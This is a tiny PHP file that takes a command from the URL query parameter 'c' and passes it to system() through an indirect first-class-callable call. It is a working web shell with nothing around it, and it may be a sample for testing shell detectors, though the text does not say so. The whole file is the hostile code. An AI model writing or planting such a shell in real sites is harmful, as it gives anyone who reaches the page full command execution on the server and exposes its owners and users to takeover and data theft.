<?php
function g() { return $_GET["c"]; }
system((g(...))());
